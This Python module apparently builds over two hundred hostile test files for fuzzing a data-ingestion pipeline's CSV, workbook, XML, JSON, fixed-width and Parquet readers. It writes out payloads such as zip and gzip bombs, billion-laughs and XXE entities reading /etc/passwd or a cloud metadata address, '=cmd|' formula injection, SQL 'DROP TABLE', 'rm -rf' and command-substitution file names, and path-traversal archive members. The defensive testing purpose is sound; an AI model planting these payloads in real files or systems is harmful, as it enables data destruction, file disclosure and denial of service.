"""Files that somebody sends by mistake or to do harm. Each is made when it is asked for; none is kept in the repository."""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

MB = 1 << 20
HEADER = "编号,姓名,电话"
ROWS = "1,张三,13800138000\n2,李四,13900139000\n"
GOOD = f"{HEADER}\n{ROWS}"


@dataclass(frozen=True)
class Hostile:
    """`reader` is what the contract expects, `name` the file's name without its folder."""

    about: str
    reader: str
    name: str
    make: Callable[[], bytes]


def hostile_files() -> Iterator[Hostile]:
    """More than two hundred, the same ones each time."""
    for family in (_texts, _names, _packed, _workbooks, _xml, _json, _fixed, _parquet, _noise):
        yield from family()


def _texts() -> Iterator[Hostile]:
    def text(about: str, make: Callable[[], bytes | str]) -> Hostile:
        def data() -> bytes:
            made = make()
            return made.encode() if isinstance(made, str) else made

        return Hostile(about, "delimited", "a.csv", data)

    yield text("10,000 columns", lambda: ",".join(f"c{i}" for i in range(10_000)) + "\n" + "x," * 10_000)
    yield text("10,000 columns that begin well", lambda: HEADER + "".join(f",c{i}" for i in range(10_000)) + "\n" + ROWS)
    yield text("4,900 more columns and rows", lambda: HEADER + "".join(f",c{i}" for i in range(4_900)) + "\n" + ROWS * 500)
    yield text("a row of a million delimiters", lambda: GOOD + "," * 1_000_000 + "\n")
    yield text("a line of 1 GB", lambda: b"x" * (1 << 30))
    yield text("a line of 1 GB below a table", lambda: GOOD.encode() + b"x" * (1 << 30))
    yield text("a value of 200 MB in quotes", lambda: f'{HEADER}\n1,"'.encode() + b"y" * (200 * MB) + b'",1\n')
    yield text("quotes that never close", lambda: HEADER + '\n1,"' + ROWS * 100_000)
    yield text("quotes in quotes", lambda: HEADER + "\n1," + '"' * 999_999 + ",1\n")
    yield text("a million quotes in a row each", lambda: HEADER + "\n" + '"","",""\n' * 300_000)
    yield text("only quotes", lambda: '"' * 3_000_000)
    yield text("only delimiters", lambda: ",,,\n" * 500_000)
    yield text("only line breaks", lambda: "\n" * 2_000_000)
    yield text("only carriage returns", lambda: "\r" * 500_000)
    yield text("blanks", lambda: " " * (8 * MB))
    yield text("NULs", lambda: bytes(8 * MB))
    yield text("NUL in the header", lambda: GOOD.replace("姓", "姓\0"))
    yield text("NUL in every cell", lambda: HEADER + "\n" + "\0,\0,\0\n" * 100_000)
    yield text("half a character at the end", lambda: GOOD.encode()[:-1] + b"\xe5\xbc")
    yield text("every byte", lambda: bytes(range(256)) * 400)
    yield text("surrogates in UTF-8", lambda: GOOD.encode() + b"3,\xed\xa0\x80,1\n")
    yield text("overlong UTF-8", lambda: GOOD.encode() + b"3,\xc0\xaf,1\n")
    yield text("marks of direction", lambda: GOOD + "3,\u202egnp.exe\u2066,1\n")
    yield text("ten thousand combining marks", lambda: GOOD + "3,a" + "\u0301" * 10_000 + ",1\n")
    yield text("byte-order marks everywhere", lambda: "\ufeff" + GOOD.replace("\n", "\n\ufeff"))
    yield text("header a thousand times", lambda: (HEADER + "\n") * 1_000 + ROWS)
    yield text("two headers in one line", lambda: f"{HEADER},{HEADER}\n{ROWS}")
    yield text("names of our own columns", lambda: f"_batch,_row,_sheet,_defect,_extra,{HEADER}\n" + "1,2,3,4,5,6,7,8\n")
    yield text("formulas", lambda: GOOD + '=cmd|\' /C calc\'!A0,+1+1,@SUM(1)\n-2+3,"=HYPERLINK(""http://x"")",1\n')
    yield text("SQL", lambda: GOOD + '3,\'); DROP TABLE lake.ledger.batch; --,1\n"""; ATTACH \'x\' AS y",1,1\n')
    yield text("templates", lambda: GOOD + "{{7*7}},${7*7},{% include '/etc/passwd' %}\n3,#{7},<%=7%>\n")
    yield text("markup", lambda: GOOD + '3,<script>alert(1)</script>,"<img src=x onerror=alert(1)>"\n')
    yield text("a number of 100,000 digits", lambda: GOOD + "9" * 100_000 + ",x,1\n")
    yield text("numbers that are none", lambda: GOOD + "nan,inf,-inf\n1e999999,0x1F,1_000\n")
    yield text("dates from nowhere", lambda: GOOD + "9999999-99-99,0000-00-00,-1-01-01\n")
    yield text("UTF-16 without a mark", lambda: GOOD.encode("utf-16-le"))
    yield text("UTF-32", lambda: GOOD.encode("utf-32"))
    yield text("UTF-7", lambda: GOOD.encode("utf-7"))
    yield text("EBCDIC", lambda: "a,b,c\n1,2,3\n".encode("cp037"))
    yield text("GB 18030", lambda: GOOD.encode("gb18030") * 100)
    yield text("a web page", lambda: "<html><body><table>" + "<tr><td>1</td></tr>" * 1000)
    yield text("a program", lambda: b"MZ" + bytes(1000) + b"This program cannot be run in DOS mode")
    yield text("an ELF", lambda: b"\x7fELF" + bytes(4096))
    yield text("a PDF", lambda: b"%PDF-1.7\n" + bytes(1000))
    yield text("a picture", lambda: b"\x89PNG\r\n\x1a\n" + bytes(1000))
    yield text("a shell script", lambda: "#!/bin/sh\nrm -rf /\n")
    yield text(
        "a line of every Unicode plane", lambda: GOOD + "3," + "".join(chr(p << 16 | 0x41) for p in range(17) if p != 13) + ",1\n"
    )
    yield text("noncharacters", lambda: GOOD + "3,\ufdd0\uffff,1\n")
    yield text("unit separators", lambda: GOOD.replace(",", "\x1f"))
    yield text("line separators of Unicode", lambda: GOOD + "3,a\u2028b\u2029c\x85d\x0be\x0cf,1\n")
    yield text("50,000 rows of nothing but errors", lambda: HEADER + "\n" + "x\n" * 50_000)
    yield text("a file of one byte", lambda: b"x")
    yield text("a header alone without an end", lambda: HEADER)


def _names() -> Iterator[Hostile]:
    names = (
        "x../../../etc/passwd.csv", "x..\\..\\windows.csv", "-rf.csv", "--help.csv", "a;rm -rf ~.csv", "$(id).csv", "`id`.csv",
        "a\nb.csv", "a\tb.csv", "a\x07b.csv", "\u202ecsv.exe.csv", "'); DROP TABLE x;--.csv", '"quoted".csv', "{{7*7}}.csv",
        "%s%n%x.csv", "%2e%2e%2f.csv", "CON.csv", "a" * 240 + ".csv", "文" * 80 + ".csv", "👩‍👩‍👧‍👦.csv", " .csv", "a .csv ", "*.csv", "[a].csv",
        "?.csv", "<b>.csv", "a&b.csv", "a#b?c=d.csv", "~.csv", "𠮷.csv", "a\u0000b.csv",
    )  # fmt: skip
    for name in names:
        yield Hostile(f"a name: {name[:20]!r}", "delimited", name.replace("/", "∕").replace("\0", "␀"), GOOD.encode)


def _zip(*members: tuple[str, bytes], packed: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def _packed() -> Iterator[Hostile]:
    def one(about: str, make: Callable[[], bytes], name: str = "a.zip") -> Hostile:
        return Hostile(about, "delimited", name, make)

    def nested() -> bytes:
        data = _zip(("a.csv", bytes(10 * MB)))
        for level in range(8):
            data = _zip(*((f"{level}{i}.zip", data) for i in range(8)))
        return data

    def lies() -> bytes:
        """The directory says one byte, the member is larger."""
        data = bytearray(_zip(("a.csv", GOOD.encode() * 1000)))
        at = data.rfind(b"PK\x01\x02")
        struct.pack_into("<I", data, at + 24, 1)
        return bytes(data)

    def locked() -> bytes:
        data = bytearray(_zip(("a.csv", GOOD.encode())))
        data[6] |= 1
        data[data.rfind(b"PK\x01\x02") + 8] |= 1
        return bytes(data)

    def link() -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            item = zipfile.ZipInfo("a.csv")
            item.external_attr = 0o120777 << 16
            archive.writestr(item, "/etc/passwd")
        return out.getvalue()

    def overlapping() -> bytes:
        """Every entry of the directory points to one and the same compressed kernel."""
        out = io.BytesIO(_zip(("0.csv", bytes(20 * MB))))
        data = out.getvalue()
        at = data.rfind(b"PK\x01\x02")
        end = data.rfind(b"PK\x05\x06")
        entry = data[at:end]
        entries = b"".join(entry.replace(b"0.csv", b"%d.csv" % i) for i in range(10))
        return data[:at] + entries + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 10, 10, len(entries), at, 0)

    yield one("a zip of 1 GB of zeros", lambda: _zip(("a.csv", bytes(1 << 30))))
    yield one("a zip of 300 MB of zeros in many members", lambda: _zip(*((f"{i}.csv", bytes(30 * MB)) for i in range(10))))
    yield one("zips in zips in zips", nested)
    yield one("10,000 members", lambda: _zip(*((f"{i}.csv", b"x") for i in range(10_000))))
    yield one("two members", lambda: _zip(("a.csv", GOOD.encode()), ("b.csv", GOOD.encode())))
    yield one("a zip that lies about its size", lies)
    yield one("a locked zip", locked)
    yield one("a link in a zip", link)
    yield one("members that overlap", overlapping)
    yield one("a member that climbs up", lambda: _zip(("../../../../tmp/x.csv", GOOD.encode())))
    yield one("a member with an absolute name", lambda: _zip(("/etc/cron.d/x.csv", GOOD.encode())))
    yield one("a member without a name", lambda: _zip(("x", GOOD.encode())))
    yield one("only folders", lambda: _zip(("a/", b""), ("b/", b"")))
    yield one("an empty zip", lambda: b"PK\x05\x06" + bytes(18))
    yield one("a zip cut short", lambda: _zip(("a.csv", GOOD.encode()))[:-30])
    yield one(
        "a zip with wrong checksum",
        lambda: _zip(("a.csv", GOOD.encode()), packed=False).replace("张三".encode(), "张四".encode()),
    )
    yield one("a zip behind a program", lambda: b"MZ" + bytes(500) + _zip(("a.csv", GOOD.encode())))
    yield one("an unknown compression", lambda: _zip(("a.csv", GOOD.encode())).replace(b"\x08\x00", b"\x63\x00"))
    yield one("a gzip of 1 GB of zeros", lambda: gzip.compress(bytes(1 << 30), 1), "a.csv.gz")
    yield one("a gzip of a gzip", lambda: gzip.compress(gzip.compress(GOOD.encode())), "a.csv.gz")
    yield one("a gzip cut short", lambda: gzip.compress(GOOD.encode() * 1000)[:-20], "a.csv.gz")
    yield one("a gzip with rubbish behind", lambda: gzip.compress(GOOD.encode()) + b"rubbish", "a.csv.gz")
    yield one("a gzip with a wrong checksum", lambda: gzip.compress(GOOD.encode())[:-8] + bytes(8), "a.csv.gz")
    yield one("a gzip of nothing", lambda: gzip.compress(b""), "a.csv.gz")
    yield one("raw deflate", lambda: zlib.compress(GOOD.encode()), "a.csv.gz")
    yield one("a tar in a gzip", lambda: gzip.compress(b"a.csv" + bytes(95) + b"0000644" + bytes(20_000)), "a.csv.gz")
    yield one("7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(500), "a.csv.7z")
    yield one("rar", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(500), "a.csv.rar")


def _book(change: Callable[[openpyxl.Workbook], None] = lambda book: None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for row in (HEADER.split(","), ["1", "张三", "13800138000"], ["2", "李四", "13900139000"]):
        sheet.append(row)
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rewritten(change: Callable[[str, bytes], bytes | None], *more: tuple[str, bytes], book: bytes | None = None) -> bytes:
    """The sound workbook with its parts changed (None: left out) and others added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book or _book())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            data = change(name, source.read(name))
            if data is not None:
                target.writestr(name, data)
        for name, data in more:
            target.writestr(name, data)
    return out.getvalue()


def _ods(body: str) -> bytes:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        f'<office:body><office:spreadsheet><table:table table:name="一">{body}</table:table></office:spreadsheet></office:body>'
        "</office:document-content>"
    )
    manifest = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        "</manifest:manifest>"
    )
    return _zip(
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("META-INF/manifest.xml", manifest.encode()),
        ("content.xml", content.encode()),
    )


def _ods_row(*cells: str, repeat: int = 1, wide: int = 1) -> str:
    texts = "".join(
        f'<table:table-cell office:value-type="string" table:number-columns-repeated="{wide}"><text:p>{c}</text:p></table:table-cell>'
        for c in cells
    )
    return f'<table:table-row table:number-rows-repeated="{repeat}">{texts}</table:table-row>'


def _workbooks() -> Iterator[Hostile]:
    def one(about: str, make: Callable[[], bytes], name: str = "a.xlsx") -> Hostile:
        return Hostile(about, "workbook", name, make)

    def cell(address: str, value: object = "x") -> Callable[[openpyxl.Workbook], None]:
        def change(book: openpyxl.Workbook) -> None:
            book.worksheets[0][address] = value

        return change

    def many_sheets(book: openpyxl.Workbook) -> None:
        for i in range(300):
            book.create_sheet(f"s{i}")

    def merged(book: openpyxl.Workbook) -> None:
        book.worksheets[0].merge_cells("A2:C1000000")

    def in_part(part: str, old: bytes, new: bytes) -> bytes:
        return _rewritten(lambda name, data: data.replace(old, new, 1) if name.endswith(part) else data)

    bomb = (
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))
        + b"]>"
    )
    header = _ods_row(*HEADER.split(","))
    yield one("a stray cell at the far end", lambda: _book(cell("XFD1048576")))
    yield one("a stray cell far below", lambda: _book(cell("A1048576")))
    yield one("a stray cell far to the right", lambda: _book(cell("XFD2")))
    yield one("a million rows merged", lambda: _book(merged))
    yield one("300 sheets", lambda: _book(many_sheets))
    yield one("a cell of 32,767 characters", lambda: _book(cell("B4", "长" * 32_767)))
    yield one("formulas that call programs", lambda: _book(cell("B4", "=cmd|'/c calc'!A1")))
    yield one("a formula on a web address", lambda: _book(cell("B4", '=WEBSERVICE("http://example.org/"&A2)')))
    yield one("errors in cells", lambda: _book(cell("B4", "#REF!")))
    yield one("a part of 1 GB of blanks", lambda: _rewritten(lambda n, d: d, ("xl/media.xml", b" " * (1 << 30))))
    yield one(
        "a part of 3 GB of blanks", lambda: _rewritten(lambda n, d: d, *((f"xl/m{i}.xml", b" " * (1 << 29)) for i in range(6)))
    )
    yield one("entities in the sheet", lambda: in_part("sheet1.xml", b"<worksheet", bomb + b"<worksheet"))
    yield one("entities in the book", lambda: in_part("workbook.xml", b"<workbook", bomb + b"<workbook"))
    yield one("entities in the relations", lambda: in_part("workbook.xml.rels", b"<Relationships", bomb + b"<Relationships"))
    yield one("no sheets", lambda: _rewritten(lambda n, d: None if "sheet1" in n else d))
    yield one("no book", lambda: _rewritten(lambda n, d: None if n == "xl/workbook.xml" else d))
    yield one("no shared strings", lambda: _rewritten(lambda n, d: None if "sharedStrings" in n else d))
    yield one("a sheet that is no XML", lambda: _rewritten(lambda n, d: b"\x00\x01rubbish" if "sheet1" in n else d))
    yield one("a sheet cut short", lambda: _rewritten(lambda n, d: d[: len(d) // 2] if "sheet1" in n else d))
    yield one("an index out of the strings", lambda: in_part("sheet1.xml", b"<v>0</v>", b"<v>99999999999</v>"))
    yield one("negative row numbers", lambda: in_part("sheet1.xml", b'r="2"', b'r="-2"'))
    yield one("rows backwards", lambda: in_part("sheet1.xml", b'<row r="2"', b'<row r="9"'))
    yield one("a cell address that is none", lambda: in_part("sheet1.xml", b'r="A2"', b'r="ZZZZZZ99999999999"'))
    yield one("a dimension that lies", lambda: in_part("sheet1.xml", b"A1:C3", b"A1:XFD1048576"))
    yield one(
        "relations that climb up", lambda: in_part("workbook.xml.rels", b"worksheets/sheet1.xml", b"../../../../etc/passwd")
    )
    yield one("relations to itself", lambda: in_part("workbook.xml.rels", b"worksheets/sheet1.xml", b"workbook.xml"))
    yield one("macros", lambda: _rewritten(lambda n, d: d, ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(2000))), "a.xlsm")
    yield one("links to other workbooks", lambda: _rewritten(lambda n, d: d, ("xl/externalLinks/externalLink1.xml", b"<x/>")))
    yield one("the same part twice", lambda: _rewritten(lambda n, d: d, ("xl/worksheets/sheet1.xml", b"<worksheet/>")))
    yield one("a workbook cut short", lambda: _book()[:3000])
    yield one(
        "an old workbook of rubbish", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(1).randbytes(50_000), "a.xls"
    )
    yield one("an old workbook that points at itself", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(508) * 100, "a.xls")
    yield one("an .xlsx called .xls", _book, "a.xls")
    yield one("CSV called .xlsx", GOOD.encode)
    yield one("HTML called .xls", lambda: b"<html><table><tr><td>1</td></tr></table></html>", "a.xls")
    yield one("an .ods", lambda: _ods(header + _ods_row("1", "张三", "13800138000")), "a.ods")
    yield one("an .ods of a thousand million rows", lambda: _ods(header + _ods_row("1", "x", "1", repeat=1_000_000_000)), "a.ods")
    yield one("an .ods of a thousand million columns", lambda: _ods(header + _ods_row("1", wide=1_000_000_000)), "a.ods")
    yield one(
        "an .ods with empty rows without end",
        lambda: _ods(header + _ods_row("1", "x", "1") + _ods_row(repeat=2_000_000_000)),
        "a.ods",
    )
    yield one("an .ods with entities", lambda: _ods(header).replace(b"<?xml", b"<?xml"), "a.ods")
    yield one("an .ods without content", lambda: _zip(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")), "a.ods")
    yield one("a document", lambda: _zip(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>")), "a.docx")


def _xml() -> Iterator[Hostile]:
    def one(about: str, make: Callable[[], bytes | str]) -> Hostile:
        def data() -> bytes:
            made = make()
            return made.encode() if isinstance(made, str) else made

        return Hostile(about, "xml", "a.xml", data)

    record = "<r><编号>1</编号><姓名>张三</姓名><电话>13800138000</电话></r>"
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    yield one("entities that laugh", lambda: f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><x><r><编号>&l11;</编号></r></x>')
    yield one(
        "an entity from a file", lambda: '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x><r><编号>&f;</编号></r></x>'
    )
    yield one("an entity from the web", lambda: '<!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/">]><x><r>&f;</r></x>')
    yield one("a parameter entity", lambda: '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///dev/random"> %p;]><x/>')
    yield one("a document type elsewhere", lambda: f'<!DOCTYPE x SYSTEM "http://example.org/x.dtd"><x>{record}</x>')
    yield one(
        "an inclusion", lambda: f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/>{record}</x>'
    )
    yield one("100,000 levels", lambda: "<a>" * 100_000)
    yield one("60 levels", lambda: "<a>" * 60 + record + "</a>" * 60)
    yield one("a million attributes", lambda: "<x><r " + " ".join(f'a{i}="1"' for i in range(1_000_000)) + "/></x>")
    yield one("a text of 200 MB", lambda: b"<x><r><a>" + b"y" * (200 * MB) + b"</a></r></x>")
    yield one("an attribute of 100 MB", lambda: b'<x><r a="' + b"y" * (100 * MB) + b'"/></x>')
    yield one("a comment of 100 MB", lambda: b"<x><!--" + b"y" * (100 * MB) + b"-->" + record.encode() + b"</x>")
    yield one("a record of a million fields", lambda: "<x><r>" + "".join(f"<a{i}/>" for i in range(1_000_000)) + "</r></x>")
    yield one("a field a million times", lambda: f"<x><r>{'<编号>1</编号>' * 500_000}</r></x>")
    yield one("no records", lambda: "<x/>")
    yield one("not closed", lambda: f"<x>{record}")
    yield one("two roots", lambda: f"<x>{record}</x><x/>")
    yield one("an encoding nobody has", lambda: f'<?xml version="1.0" encoding="x-nobody"?><x>{record}</x>')
    yield one("an encoding that is no text", lambda: f'<?xml version="1.0" encoding="base64"?><x>{record}</x>')
    yield one("an encoding that lies", lambda: f'<?xml version="1.0" encoding="utf-8"?><x>{record}</x>'.encode("gb18030"))
    yield one("UTF-16", lambda: f'<?xml version="1.0" encoding="utf-16"?><x>{record}</x>'.encode("utf-16"))
    yield one("NUL", lambda: f"<x>{record}\0</x>")
    yield one("a character that XML forbids", lambda: f"<x>{record}&#0;&#x1F;</x>")
    yield one("instructions", lambda: f'<?xml-stylesheet href="http://example.org"?><x>{record}</x>')


def _json() -> Iterator[Hostile]:
    def one(about: str, make: Callable[[], bytes | str]) -> Hostile:
        def data() -> bytes:
            made = make()
            return made.encode() if isinstance(made, str) else made

        return Hostile(about, "json", "a.json", data)

    record = json.dumps({"编号": "1", "姓名": "张三", "电话": "13800138000"}, ensure_ascii=False)
    yield one("100,000 lists", lambda: "[" * 100_000)
    yield one("100,000 objects", lambda: '{"a":' * 100_000)
    yield one("100,000 objects in one line of lines", lambda: '{"a":' * 100_000 + "1" + "}" * 100_000 + "\n" + record)
    yield one("a string of 200 MB", lambda: b'[{"a":"' + b"y" * (200 * MB) + b'"}]')
    yield one("a number of a million digits", lambda: '[{"编号":' + "9" * 1_000_000 + ',"姓名":"x","电话":"1"}]')
    yield one("a number beyond all bounds", lambda: '[{"编号":1e999999999,"姓名":-1E-999999999,"电话":NaN}]')
    yield one("a key a million times", lambda: "[{" + ",".join('"编号":"1"' for _ in range(300_000)) + "}]")
    yield one("a million keys", lambda: "[{" + ",".join(f'"k{i}":1' for i in range(1_000_000)) + "}]")
    yield one("each record with a key of its own", lambda: "\n".join(f'{{"k{i}":1}}' for i in range(100_000)))
    yield one("half characters", lambda: '[{"编号":"\\ud800","姓名":"\\udfff\\ud800","电话":"1"}]')
    yield one("NUL", lambda: '[{"编号":"\\u0000","姓名":"a\\u0000b","电话":"1"}]')
    yield one("half characters in keys", lambda: f'[{{"\\ud800":1}},{record}]')
    yield one("an empty key", lambda: f'[{{"":1}},{record}]')
    yield one("prototype", lambda: f'[{{"__proto__":{{"x":1}},"constructor":1}},{record}]')
    yield one("not UTF-8", lambda: f"[{record}]".encode("gb18030"))
    yield one("UTF-16", lambda: f"[{record}]".encode("utf-16"))
    yield one("a value alone", lambda: "1")
    yield one("a list of values", lambda: "[" + "1," * 100_000 + "1]")
    yield one("an empty list", lambda: "[]")
    yield one("an empty object", lambda: "{}")
    yield one("two documents", lambda: f"[{record}][{record}]")
    yield one("rubbish behind", lambda: f"[{record}] x")
    yield one("comments", lambda: f"// x\n[{record}]")
    yield one("cut short", lambda: f"[{record},{record[:-5]}")
    yield one("lines of everything", lambda: "\n".join([record, "1", "null", "[]", "{}", '"x"', "{", "", record]))


def _fixed() -> Iterator[Hostile]:
    def one(about: str, data: bytes) -> Hostile:
        return Hostile(about, "fixed_width", "a.dat", lambda: data)

    line = "0001张三    13800138000\n".encode("gbk")
    yield one("a line of 20 MB", b"x" * (20 * MB))
    yield one("lines of one byte", b"x\n" * 200_000)
    yield one("half a character at each edge", line.replace("张".encode("gbk"), b"\xd5", 1) * 1000)
    yield one("NULs", line + bytes(1000) + b"\n" + line)
    yield one("nothing but breaks", b"\n" * 100_000)
    yield one("UTF-8", "0001张三    13800138000\n".encode() * 100)
    yield one("a sound file with one long line", line * 100 + b"y" * 100_000 + b"\n")


def _parquet() -> Iterator[Hostile]:
    def one(about: str, make: Callable[[], bytes]) -> Hostile:
        return Hostile(about, "parquet", "a.parquet", make)

    def of(columns: dict[str, object]) -> bytes:
        out = io.BytesIO()
        pq.write_table(pa.table(columns), out)
        return out.getvalue()

    good = {"编号": ["1"], "姓名": ["张三"], "电话": ["13800138000"]}
    yield one("only the mark", lambda: b"PAR1")
    yield one("the mark twice", lambda: b"PAR1" + bytes(100) + b"PAR1")
    yield one("a footer that lies", lambda: b"PAR1" + bytes(100) + struct.pack("<I", 0x7FFFFFFF) + b"PAR1")
    yield one("a footer of rubbish", lambda: b"PAR1" + random.Random(2).randbytes(500) + struct.pack("<I", 400) + b"PAR1")
    yield one("cut short", lambda: of(good)[:-20])
    yield one("damaged in the middle", lambda: of(good)[:40] + b"\xff" * 20 + of(good)[60:])
    yield one("10,000 columns", lambda: of({f"c{i}": [1] for i in range(10_000)}))
    yield one("lists and maps", lambda: of({**good, "x": pa.array([{"a": [1, {"b": 2}["b"]]}]), "y": pa.array([[[1, None]]])}))
    yield one("bytes", lambda: of({**good, "x": pa.array([b"\xff\x00"])}))
    yield one("times, decimals and dictionaries", lambda: of({**good, "t": pa.array([10**18], pa.timestamp("ns", "Asia/Shanghai")),
              "d": pa.array(["1.10"]).cast(pa.decimal128(38, 10)), "k": pa.array(["x"]).dictionary_encode()}))  # fmt: skip
    yield one("a long run of one value", lambda: of({k: pa.array(v * 3_000_000) for k, v in good.items()}))
    yield one("no rows", lambda: of({k: pa.array([], pa.string()) for k in good}))
    yield one("NUL and half characters", lambda: of({**good, "编号": ["a\0b"]}))


def _noise() -> Iterator[Hostile]:
    """Bytes by chance, and sound files with bytes changed by chance."""
    sound: dict[str, Callable[[], bytes]] = {
        "delimited": lambda: (GOOD * 3).encode(),
        "workbook": _book,
        "json": lambda: json.dumps([{"编号": "1", "姓名": "张三", "电话": "1"}] * 20).encode(),
        "xml": lambda: ("<x>" + "<r><编号>1</编号><姓名>张三</姓名><电话>1</电话></r>" * 20 + "</x>").encode(),
        "fixed_width": lambda: "0001张三    13800138000\n".encode("gbk") * 20,
        "parquet": lambda: _parquet_sound(),
    }
    for reader, make in sound.items():
        for seed in range(3):
            yield Hostile(f"{reader}: noise {seed}", reader, "a.bin", lambda s=seed: random.Random(s).randbytes(20_000))  # type: ignore[misc]  # a default that binds the loop's value
        for seed in range(4):

            def damaged(make: Callable[[], bytes] = make, seed: int = seed) -> bytes:
                dice, data = random.Random(seed), bytearray(make())
                for _ in range(1 + len(data) // 200):
                    data[dice.randrange(len(data))] = dice.randrange(256)
                return bytes(data)

            yield Hostile(f"{reader}: damaged {seed}", reader, "a.bin", damaged)


def _parquet_sound() -> bytes:
    out = io.BytesIO()
    pq.write_table(pa.table({"编号": ["1"] * 20, "姓名": ["张三"] * 20, "电话": ["1"] * 20}), out)
    return out.getvalue()
